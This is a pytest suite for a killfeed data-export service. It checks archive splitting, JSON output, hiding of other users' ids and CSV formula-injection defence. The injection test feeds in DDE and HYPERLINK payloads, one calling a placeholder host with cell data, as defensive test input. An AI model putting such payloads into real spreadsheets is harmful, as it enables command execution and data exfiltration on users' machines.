"""Archives: zip, JSON and CSV return what was written, in files of limited size."""

import csv
import io
import json
import random
import re
import unicodedata
import zipfile
from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from utils.models.personal import Archive
from utils.models.scope import MemberId, PlayerId
from utils.services.personal.archives import (
    DEATH_COLUMNS,
    ArchiveWriter,
    build_json,
    hide_members,
    hide_others,
    make_inert,
)

OWN, OTHER = PlayerId("0002" + "a" * 28), PlayerId("0002" + "b" * 28)
AT = datetime(2025, 4, 30, 10, 1, 2, tzinfo=UTC)


def build_death(number: int, *, weapon: str = "Mosin") -> dict[str, Any]:
    """Return a stored death."""
    return {
        "_id": number.to_bytes(32, "big"),
        "server_id": "aaaaaaaa",
        "written_at": AT,
        "at": AT,
        "kind": "kill",
        "killer_id": OWN,
        "killer_name": 'Wolf "the; one"',
        "victim_id": OTHER,
        "victim_name": "Bear",
        "weapon": weapon,
        "distance": number,
        "victim_platform": "XSX",
        "world": "world_0",
        "file": "f.csv",
        "offset": 5,
    }


def read_rows(archive: Archive) -> list[dict[str, str]]:
    """Return the rows of an archive."""
    with zipfile.ZipFile(io.BytesIO(archive.content)) as files:
        assert files.testzip() is None
        return list(csv.DictReader(io.StringIO(files.read("kills.csv").decode(), newline="")))


def test_row_has_every_column_and_no_id_of_somebody_else() -> None:
    """The opponent has only a name, as in the killfeed; a wall clock has no zone."""
    writer = ArchiveWriter({}, [OWN])
    assert writer.add("North", [build_death(7)]) is None
    [row] = read_rows(writer.finish())
    assert tuple(row) == DEATH_COLUMNS
    assert row == {
        "server": "North",
        "at": "2025-04-30T10:01:02+00:00",
        "written_at": "2025-04-30 10:01:02",
        "kind": "kill",
        "killer_name": 'Wolf "the; one"',
        "killer_id": OWN,
        "killer_platform": "",
        "victim_name": "Bear",
        "victim_id": "",
        "victim_platform": "XSX",
        "weapon": "Mosin",
        "distance": "7",
        "world": "world_0",
        "file": "f.csv",
        "offset": "5",
        "ordered_at": "",
        "read_at": "",
        "fingerprint": "00" * 31 + "07",
    }


def test_export_over_the_limit_goes_on_in_the_next_archive() -> None:
    """Every row is in one of the archives, in order; no archive is much larger than the limit."""
    rng, limit = random.Random(1), 20_000
    writer = ArchiveWriter({"a": 1}, [OWN], limit=limit)
    archives: list[Archive] = []
    for start in range(0, 2_000, 20):
        rows = [build_death(number, weapon=rng.randbytes(40).hex()) for number in range(start, start + 20)]
        full = writer.add("North", rows)
        archives += [full] if full else []
    archives.append(writer.finish())
    names = [archive.name for archive in archives]
    assert names == ["killfeed-data.zip", *(f"killfeed-data-{n}.zip" for n in range(2, len(names) + 1))]
    assert len(archives) > 3
    assert max(len(archive.content) for archive in archives) < 2 * limit + 40_000
    assert [int(row["distance"]) for one in archives for row in read_rows(one)] == list(range(2_000))


def test_data_is_read_as_json_with_iso_times() -> None:
    """Bytes become digits, names stay unchanged."""
    text = build_json({"at": AT, "head": b"\x01\xff", "name": "Ж", "days": [{"day": 3}]})
    assert "Ж".encode() in text
    assert json.loads(text) == {
        "at": "2025-04-30T10:01:02+00:00",
        "head": "01ff",
        "name": "Ж",
        "days": [{"day": 3}],
    }
    with pytest.raises(TypeError, match="object is nothing that is stored"):
        build_json({"what": object()})


@pytest.mark.parametrize("other", [OTHER, OTHER.upper(), "F" * 32, "0" * 40, OTHER + "a", OWN + "a"])
def test_lines_keep_no_id_of_others(other: str) -> None:
    """The line belongs to the person, but ids of others in it are hidden, even damaged ones."""
    assert hide_others(f"a;{OWN};b;{other};", [OWN], other="(hidden)") == f"a;{OWN};b;(hidden);"
    assert hide_others(f"a;{OWN.upper()};{other[:20]}", [OWN], other="(hidden)") == f"a;{OWN};(hidden)"


BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\n", "\x00", " =", "＝", "\u00a0=")  # noqa: RUF001
FORMULAS = st.builds(
    "".join,
    st.tuples(
        st.sampled_from(["", "Ann", "Ann;", "a;b;", "Ann\t"]),
        st.sampled_from(BEGINNINGS),
        st.sampled_from(["", "cmd|'/C calc'!A0", 'HYPERLINK("http://x.example/?"&A1;"click")', "SUM(1)"]),
    ),
)


@settings(max_examples=50)
@given(st.lists(st.one_of(FORMULAS, st.text(max_size=20)), min_size=6, max_size=6))
def test_no_cell_of_a_table_begins_a_formula(texts: list[str]) -> None:
    """No cell begins a formula with commas, semicolons or tabs as separators; letters keep their order."""
    columns = ("killer_name", "victim_name", "weapon", "world", "file", "victim_platform")
    writer = ArchiveWriter({}, [OWN])
    writer.add(texts[0], [build_death(7) | dict(zip(columns, texts, strict=True))])
    archive = writer.finish()
    [row] = read_rows(archive)
    for column, text in zip(("server", *columns), (texts[0], *texts), strict=True):
        assert row[column].replace("'", "") == text.replace("'", "")
        for cell in re.split(r"[;\t\r\n]", row[column]):
            assert not cell.lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))  # noqa: RUF001
        assert not row[column][:1] or unicodedata.category(row[column][0]) != "Cc"


def test_names_without_a_formula_stay_as_they_are() -> None:
    """A dash or an equals sign within a name begins no formula."""
    for name in ("Wolf", "a=b", "x-y", "me@home", "1+1", "Ä;Ö", "", "'quoted'", "(-_-)"):
        assert make_inert(name) == name


def test_texts_mention_no_other_member() -> None:
    """Members are hidden at any depth; the person's own mention, roles and channels stay."""
    data = {"changes": [{"detail": "<@5>: <@!77> and <@5> got <@&9> in <#8>", "at": AT}], "number": 77}
    assert hide_members(data, MemberId(5), other="(hidden)") == {
        "changes": [{"detail": "<@5>: (hidden) and <@5> got <@&9> in <#8>", "at": AT}],
        "number": 77,
    }
    assert hide_members("<@5>", None, other="(hidden)") == "(hidden)"
